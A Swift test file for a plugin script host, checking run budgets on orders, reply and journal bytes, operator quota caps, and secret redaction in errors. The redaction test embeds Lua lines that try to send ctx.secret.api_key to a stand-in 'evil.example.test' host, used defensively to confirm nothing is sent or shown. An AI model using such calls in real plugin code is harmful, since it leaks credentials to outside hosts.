import PluginTesting
import Screening
import Testing

@testable import Plugins

/// What one run may make the host hold and do.
@Suite("A run's budget")
struct RunBudgetTests {
    private func failure(_ end: HookEnd) -> RunFailure? { if case .failed(let failure) = end, failure.retry == .never { failure.error } else { nil } }

    private static let order =
        "ctx.orders.place { external_id = 'o' .. i, package = 'p', candidate = { first_name = 'Ana', last_name = 'Roe', email = 'ana@example.test' } }"

    @Test("A run places twenty orders and no more, whether or not it catches the error", arguments: ["\(order)", "pcall(function() \(order) end)"])
    func ordersAreBounded(_ place: String) async throws {
        let host = PluginScriptHost()
        let end = try await host.attempt(PluginHarness.script("for i = 1, 195 do \(place) end"))
        #expect(host.orders.count == 20)
        let error = try #require(failure(end))
        #expect(error.code == "order_limit")
        #expect(error.message.contains("20 orders") && error.message.contains("an operator sets the limit with workers.limits.orders"))
    }

    @Test("An order that was there before is none of the run's twenty")
    func presentOrdersAreNotCounted() async throws {
        let host = PluginScriptHost()
        var limits = ScriptLimits()
        limits.orders = 3
        #expect(try await host.attempt(PluginHarness.script("for i = 1, 3 do \(Self.order) end"), limits: limits) == .done(.null))
        // A new attempt gets the same answers, which count as before.
        #expect(try await host.attempt(PluginHarness.script("for i = 1, 3 do \(Self.order) end"), number: 2, limits: limits) == .done(.null))
        #expect(host.orders.count == 3)
    }

    @Test("A run is answered so many megabytes in all; what it did with the last call is recorded")
    func repliesAreBounded() async throws {
        let host = PluginScriptHost { _, _ in WireResponse(200, body: [UInt8](repeating: 65, count: 300_000)) }
        var limits = ScriptLimits()
        limits.runReplyBytes = 1 << 20
        let end = try await host.attempt(
            PluginHarness.script("for i = 1, 190 do pcall(ctx.http.post, 'https://api.example.test/' .. i, { json = {} }) end"),
            limits: limits
        )
        #expect(failure(end)?.code == "replies_limit")
        #expect(host.sent.count == 4)
        #expect(host.steps.count == 4 && host.steps.allSatisfy { $0.reply != nil && !$0.repeatable })
        // The last was made, too: whoever retries the run must not post it again.
        #expect(host.steps.last?.reply?.value["made"] == true && host.steps.last?.reply?.value["error"] != nil)
    }

    @Test("All that a run's steps hold is bounded, its own arguments too")
    func theJournalIsBounded() async throws {
        let host = PluginScriptHost()
        var limits = ScriptLimits()
        limits.journalBytes = 1 << 20
        let script = "local x = ('x'):rep(300000) for i = 1, 190 do pcall(ctx.http.get, 'https://api.example.test/', { json = { x } }) end"
        let end = try await host.attempt(PluginHarness.script(script), limits: limits)
        #expect(failure(end)?.code == "journal_limit")
        #expect(host.sent.count == 4)
    }

    @Test("A quota's cap is the operator's word; a plugin may ask for less")
    func capsAreTheOperators() {
        #expect(ScriptLimits(requested: [:], caps: [:]).orders == 20)
        #expect(ScriptLimits(requested: [:], caps: [.orders: 50, .steps: 500])[.orders] == 50)
        #expect(ScriptLimits(requested: [:], caps: [.orders: 50, .steps: 500])[.steps] == 200)
        #expect(ScriptLimits(requested: [.orders: 5], caps: [.orders: 50])[.orders] == 5)
        #expect(ScriptLimits.excesses(requested: [.ordersPerHour: 5000], caps: [:]).count == 1)
    }

    @Test("A secret in the URL or in a method never shows in an error, in whatever case")
    func noErrorShowsASecret() async throws {
        for call in [
            "ctx.http.get('https://x-' .. ctx.secret.api_key .. '.evil.example.test')", "ctx.http.get(ctx.secret.api_key)",
            "ctx.http.request { method = ctx.secret.api_key, url = 'https://api.example.test' }",
            "ctx.http.get('https://evil.example.test', { headers = { a = ctx.secret.api_key } })",
            "ctx.http.get('https://api.example.test', { headers = { ['accept-encoding'] = 'gzip' } })",
        ] {
            let host = PluginScriptHost()
            let end = try await host.attempt(PluginHarness.script(call))
            let shown = "\(end)".lowercased()
            #expect(shown.contains("failed") && !shown.contains(PluginHarness.secretValue.prefix(12)), "\(call): \(end)")
            #expect(host.sent.isEmpty)
        }
    }
}
